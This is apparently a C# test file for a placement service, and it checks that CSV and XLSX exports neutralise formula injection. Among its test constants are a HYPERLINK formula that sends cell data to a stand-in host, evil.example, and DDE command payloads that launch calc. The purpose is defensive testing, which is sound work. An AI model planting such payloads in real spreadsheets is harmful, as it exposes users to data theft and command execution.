using System.Globalization;
using System.IO.Compression;
using System.Net;
using System.Reflection;
using System.Text;
using System.Text.Json;
using CsvHelper;
using CsvHelper.Configuration;
using Microsoft.AspNetCore.Mvc.RazorPages;
using Placement.Catalogue.Imports;

namespace Placement.Web.Tests;

/// <summary>
/// Formula injection (OWASP « CSV injection »): text from data that starts with <c>=</c>, <c>+</c>, <c>-</c>, <c>@</c>, a tab
/// or a carriage return leaves every export, CSV and XLSX, as text — one quote before it — while numbers stay numbers; and a
/// CSV import reads such a cell back as the value it was.
/// </summary>
public sealed class SpreadsheetExportTests(PlacementApp app) : IClassFixture<PlacementApp>
{
    private const string PostTitle = "=HYPERLINK(\"https://evil.example/?d=\"&A2&B2,\"Ouvrir la fiche\")";
    private const string HostBodyName = "@SUM(1+1)*cmd|' /C calc'!A0";
    private const string PlacedFirst = "+33 6 12 34 56 78";
    private const string PlacedLast = "-Dupont";
    private const string RiskLast = "=cmd|' /C calc'!A0";
    private const string UnplacedFirst = "=1+1";
    private const string UnplacedLast = "@Martin";
    private const string Rejection = "-2+3 : la personne déménage";

    /// <summary>Every spreadsheet export of the service: a page's named GET handler, and what it is asked as.</summary>
    private static readonly string[] Exports =
    [
        "AssignmentRuns/Run Csv", "AssignmentRuns/Run Xlsx", "AssignmentRuns/Unplaced Csv", "AssignmentRuns/Unplaced Xlsx",
        "Persons/AtRisk Csv", "Persons/AtRisk Xlsx",
    ];

    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1")]
    [InlineData("-1")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1")]
    [InlineData("\r=1")]
    public void ACellStartingAFormula_GetsAQuote_AndAnImportReadsItBackAsItWas(string text)
    {
        Assert.Equal("'" + text, SpreadsheetCells.ForExport(text));
        Assert.Equal(text, SpreadsheetCells.FromImport(SpreadsheetCells.ForExport(text)));
    }

    [Theory]
    [InlineData("Dupont")]
    [InlineData("'Dupont")]
    [InlineData("'")]
    [InlineData("")]
    [InlineData("1+1")]
    public void OtherCells_AreLeftAsTheyAre(string text)
    {
        Assert.Equal(text, SpreadsheetCells.ForExport(text));
        Assert.Equal(text, SpreadsheetCells.FromImport(text));
    }

    [Fact]
    public void TheListOfExports_IsEveryCsvAndXlsxHandlerOfThePages()
    {
        var handlers = typeof(Program).Assembly.GetTypes().Where(t => t.IsSubclassOf(typeof(PageModel)))
            .SelectMany(t => t.GetMethods(BindingFlags.Public | BindingFlags.Instance | BindingFlags.DeclaredOnly)
                .Select(m => (Page: t.Namespace!.Split('.').Last() + "/" + t.Name.Replace("Model", "", StringComparison.Ordinal), m.Name)))
            .Where(h => h.Name.StartsWith("OnGetCsv", StringComparison.Ordinal) || h.Name.StartsWith("OnGetXlsx", StringComparison.Ordinal))
            .Select(h => $"{h.Page} {h.Name["OnGet".Length..].Replace("Async", "", StringComparison.Ordinal)}");
        Assert.Equal(Exports.Order(StringComparer.Ordinal), handlers.Order(StringComparer.Ordinal));
    }

    [SkippableFact]
    public async Task EveryExport_WritesTextFromDataThatStartsAFormula_AsText_AndNumbersAsNumbers()
    {
        var coordinator = await app.ClientFor(PlacementApp.Coordinator);
        var (runId, hostile) = await HostileRun(coordinator);
        var files = new Dictionary<string, string>
        {
            ["AssignmentRuns/Run"] = $"/affectations/{runId}",
            ["AssignmentRuns/Unplaced"] = $"/affectations/{runId}/non-places",
            ["Persons/AtRisk"] = "/personnes/a-risque",
        };
        var seen = new HashSet<string>(StringComparer.Ordinal);
        foreach (var export in Exports)
        {
            var (page, format) = (export.Split(' ')[0], export.Split(' ')[1]);
            var response = await coordinator.GetAsync($"{files[page]}?handler={format}");
            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            var bytes = await response.Content.ReadAsByteArrayAsync();
            var cells = format == "Csv" ? CsvCells(bytes) : XlsxCells(bytes);
            Assert.NotEmpty(cells);
            foreach (var (column, value) in cells)
            {
                if (value is string text)
                {
                    Assert.False(SpreadsheetCells.StartsAFormula(text), $"{export}, {column} : « {text} » would be read as a formula");
                    if (text.Length > 1 && text[0] == '\'' && hostile.Contains(text[1..])) seen.Add($"{export} {text[1..]}");
                }
            }
        }
        // Each hostile text reached the exports that show it, behind its quote.
        foreach (var format in new[] { "Csv", "Xlsx" })
        {
            foreach (var text in new[] { PostTitle, HostBodyName, $"{PlacedFirst} {PlacedLast}", Rejection })
                Assert.Contains($"AssignmentRuns/Run {format} {text}", seen);
            Assert.Contains($"AssignmentRuns/Unplaced {format} {UnplacedFirst} {UnplacedLast}", seen);
            Assert.Contains($"Persons/AtRisk {format} {RiskLast}", seen);
        }
    }

    [SkippableFact]
    public async Task AnExportedCellImportedAgain_IsTheValueItWas()
    {
        var coordinator = await app.ClientFor(PlacementApp.Coordinator);
        var host = await CatalogueApiTests.CreateHostBody(coordinator, "Association Aller-retour");
        var hostBody = await (await coordinator.GetAsync($"/api/host-bodies/{host}")).Json();
        var siret = hostBody.GetProperty("siret").GetString();
        var csv = "siret;reference;intitule;description;activite;places;heures_hebdo_max;creneaux;ouvert_du;ouvert_au;tuteur_nom;tuteur_telephone;effort_physique\r\n"
            + $"{siret};AR-1;{SpreadsheetCells.ForExport("=Peinture")};{SpreadsheetCells.ForExport("-Portes et volets.")};espaces-verts;1;7;lun 09:00-12:00;01/01/2027;31/12/2027;Jean Roux;04 72 00 00 00;moyen\r\n";
        var imported = await coordinator.PostAsync("/api/imports/posts?dryRun=false&fileName=postes.csv", new StringContent(csv, Encoding.UTF8, "text/csv"));
        Assert.True(imported.StatusCode == HttpStatusCode.OK, await imported.Content.ReadAsStringAsync());
        var posts = await (await coordinator.GetAsync($"/api/posts?hostBodyId={host}")).Json();
        Assert.Contains(posts.GetProperty("items").EnumerateArray(), p => p.GetProperty("title").GetString() == "=Peinture");
        var post = posts.GetProperty("items").EnumerateArray().Single(p => p.GetProperty("title").GetString() == "=Peinture");
        var read = await (await coordinator.GetAsync($"/api/posts/{post.GetProperty("id").GetString()}")).Json();
        Assert.Equal("-Portes et volets.", read.GetProperty("description").GetString());
    }

    /// <summary>A host body, a post, and three persons whose texts start formulas; a run over them, one proposal rejected.</summary>
    private async Task<(string RunId, HashSet<string> Hostile)> HostileRun(HttpClient coordinator)
    {
        var postId = await Scenarios.PublishedPostOfANewHostBody(coordinator, HostBodyName, post => (post["title"], post["capacity"]) = (PostTitle, 3));

        var placed = await Scenarios.Person(app, postId, edit: p => (p["firstName"], p["lastName"], p["skills"], p["maxTravelKm"]) = (PlacedFirst, PlacedLast, new[] { "jardinage" }, 2));
        var atRisk = await Scenarios.Person(app, postId, edit: p => (p["lastName"], p["skills"], p["maxTravelKm"], p["deadline"]) = (RiskLast, new[] { "jardinage" }, 2, "2027-01-15"));
        var unplaced = await Scenarios.Person(app, postId, edit: p =>
        {
            (p["firstName"], p["lastName"], p["maxTravelKm"]) = (UnplacedFirst, UnplacedLast, 2);
            p["availability"] = new[] { new { day = "sun", start = "08:00", end = "10:00" } };
        });
        var runId = await Runs.Start(coordinator, new { departements = new[] { "69" }, personIds = new[] { placed, atRisk, unplaced }, timeLimitSeconds = 10 });
        Assert.Equal("succeeded", (await Runs.WaitFinished(coordinator, runId)).GetProperty("state").GetString());
        var proposals = (await (await coordinator.GetAsync($"/api/assignment-runs/{runId}/proposals")).Json()).EnumerateArray().ToList();
        var mine = proposals.Single(p => p.GetProperty("personId").GetString() == placed);
        Assert.Equal(postId, mine.GetProperty("postId").GetString());
        Assert.Equal(HttpStatusCode.NoContent, (await coordinator.PostAsJsonAsync($"/api/assignment-runs/{runId}/proposals/{mine.GetProperty("id").GetString()}/reject", new { reason = Rejection })).StatusCode);
        return (runId, [PostTitle, HostBodyName, $"{PlacedFirst} {PlacedLast}", PlacedFirst, PlacedLast, RiskLast, Rejection, $"{UnplacedFirst} {UnplacedLast}", UnplacedFirst, UnplacedLast]);
    }

    /// <summary>The cells of a CSV export, read by CsvHelper as the imports read files (semicolons, header line).</summary>
    private static List<(string Column, object? Value)> CsvCells(byte[] bytes)
    {
        using var reader = new StringReader(ImportText.Decode(bytes));
        using var csv = new CsvReader(reader, new CsvConfiguration(CultureInfo.InvariantCulture) { Delimiter = ";" });
        csv.Read();
        csv.ReadHeader();
        var header = csv.HeaderRecord!;
        var cells = new List<(string, object?)>();
        while (csv.Read())
        {
            foreach (var column in header)
            {
                var text = csv.GetField(column) ?? "";
                // A number written by the code is a number: « -1.5 » is safe; text from data is what is checked.
                cells.Add((column, double.TryParse(text, NumberStyles.Float, CultureInfo.InvariantCulture, out var number) ? number : text));
            }
        }
        return cells;
    }

    /// <summary>The cells of an XLSX export, read by MiniExcel; and no cell of the sheet holds a formula.</summary>
    private static List<(string Column, object? Value)> XlsxCells(byte[] bytes)
    {
        using (var zip = new ZipArchive(new MemoryStream(bytes)))
        {
            foreach (var entry in zip.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal)))
            {
                using var sheet = new StreamReader(entry.Open());
                Assert.DoesNotContain("<x:f>", sheet.ReadToEnd().Replace("<f>", "<x:f>", StringComparison.Ordinal), StringComparison.Ordinal);
            }
        }
        var rows = MiniExcelLibs.MiniExcel.Query(new MemoryStream(bytes), useHeaderRow: true, excelType: MiniExcelLibs.ExcelType.XLSX).Cast<IDictionary<string, object?>>();
        return [.. rows.SelectMany(r => r.Select(c => (c.Key, c.Value)))];
    }
}
